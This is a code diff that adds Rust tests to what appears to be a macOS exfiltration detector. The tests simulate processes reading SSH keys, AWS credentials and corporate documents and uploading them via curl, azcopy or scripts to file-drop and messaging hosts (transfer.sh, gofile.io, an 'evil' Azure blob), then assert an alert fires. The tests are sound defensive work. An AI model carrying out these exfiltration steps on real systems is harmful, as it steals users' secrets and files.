@@ -299,3 +299,117 @@ fn m35_transfer_sites() {
         w.tell().alert();
     }
 }
+
+/// Encrypted before it leaves: the output of who read it.
+#[test]
+fn m13_encrypted_before_upload() {
+    let mut w = World::new();
+    let shell = w.launch(0.0, ZSH, SHELL);
+    let openssl = w.spawn(
+        1.0,
+        &shell,
+        apple("/usr/bin/openssl", "com.apple.openssl"),
+        &["openssl", "enc", "-out", "/tmp/x.bin"],
+    );
+    w.open(1.1, &openssl, "/Users/alice/Documents/corp/plan.docx");
+    w.write(1.2, &openssl, "/private/tmp/x.bin");
+    let curl = w.spawn(5.0, &shell, CURL, &["curl", "-T", "x.bin", "https://gofile.io/"]);
+    w.open(5.1, &curl, "/private/tmp/x.bin");
+    w.upload(5.2, &curl, "store1.gofile.io", 90_000);
+    w.tell().alert();
+}
+
+/// GitHub is for git, not for node with the keys in its hands.
+#[test]
+fn m32_node_sends_secrets_to_a_code_host() {
+    let mut w = World::new();
+    let p = w.launch(0.0, adhoc("/opt/homebrew/bin/node", "node"), &["node", "bundle.js"]);
+    w.open(1.0, &p, "/Users/alice/.npmrc");
+    w.open(1.1, &p, "/Users/alice/.aws/credentials");
+    w.upload(2.0, &p, "api.github.com", 40_000);
+    w.tell().alert();
+}
+
+/// Not storage by name, but by use.
+#[test]
+fn m34_messaging_as_storage() {
+    for host in ["api.telegram.org", "discord.com"] {
+        let mut w = World::new();
+        let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
+        w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
+        w.upload(2.0, &p, host, 40_000);
+        w.tell().alert();
+    }
+}
+
+/// A signature with its key in the URL: the key is not written anywhere.
+#[test]
+fn m36_sas_url_is_redacted() {
+    let mut w = World::new();
+    let azcopy = adhoc("/opt/homebrew/bin/azcopy", "azcopy");
+    let url = "https://evil.blob.core.windows.net/c?sv=2022-11-02&sig=s3cr3ts1gnature";
+    let p = w.launch(0.0, azcopy, &["azcopy", "copy", ".", url]);
+    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
+    w.upload(2.0, &p, "evil.blob.core.windows.net", 90_000);
+    let told = w.tell();
+    assert_eq!(told.alert().tenant.as_deref(), Some("evil"));
+    for record in &told.records {
+        for line in [cloudward::sink::format::ecs(record), cloudward::sink::format::text(record)] {
+            assert!(!line.contains("s3cr3ts1gnature") && line.contains("[redacted]"), "{line}");
+        }
+    }
+}
+
+/// Any interpreter will do.
+#[test]
+fn m42_other_interpreters() {
+    for (path, id, args) in [
+        ("/usr/bin/perl", "com.apple.perl", ["perl", "-e", "..."]),
+        ("/Applications/MAMP/bin/php", "php", ["php", "-r", "..."]),
+        ("/usr/bin/ruby", "com.apple.ruby", ["ruby", "up.rb", ""]),
+    ] {
+        let mut w = World::new();
+        let p = w.launch(0.0, apple(path, id), &args);
+        w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
+        w.upload(2.0, &p, "transfer.sh", 40_000);
+        w.tell().alert();
+    }
+}
+
+/// From inside an app's sandbox container.
+#[test]
+fn m43_sandboxed_app() {
+    let mut w = World::new();
+    let app =
+        vendor("/Applications/Notes Plus.app/Contents/MacOS/Notes Plus", "com.evil.notes", "EVIL000000");
+    let p = w.launch(0.0, app, &["Notes Plus"]);
+    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
+    w.write(1.5, &p, "/Users/alice/Library/Containers/com.evil.notes/Data/tmp/x");
+    w.upload(2.0, &p, "transfer.sh", 40_000);
+    w.tell().alert();
+}
+
+/// A drop into iCloud Drive is Apple's own business, until the administrator says otherwise.
+#[test]
+fn m29_drop_into_icloud() {
+    let mut w = World::new();
+    let shell = w.launch(0.0, ZSH, SHELL);
+    let cp = w.spawn(1.0, &shell, apple("/bin/cp", "com.apple.cp"), &["cp", "a", "b"]);
+    w.open(1.1, &cp, "/Users/alice/Documents/report.docx");
+    w.write(1.2, &cp, "/Users/alice/Library/Mobile Documents/com~apple~CloudDocs/report.docx");
+    w.tell().none();
+    w.policy = format!("{CORP}\n[builtin]\ndisable = [\"icloud-daemons\"]\n");
+    w.tell().alert();
+}
+
+/// No fork event was recorded: the child's token names its parent.
+#[test]
+fn m06_without_fork_events() {
+    let mut w = World::new();
+    let p = w.launch(0.0, PYTHON, &["python3", "x.py"]);
+    w.open(1.0, &p, "/Users/alice/.ssh/id_rsa");
+    let curl = w.spawn(2.0, &p, CURL, &["curl", "https://transfer.sh/"]);
+    w.upload(2.2, &curl, "transfer.sh", 5_000);
+    w.forget_forks();
+    w.tell().alert();
+}
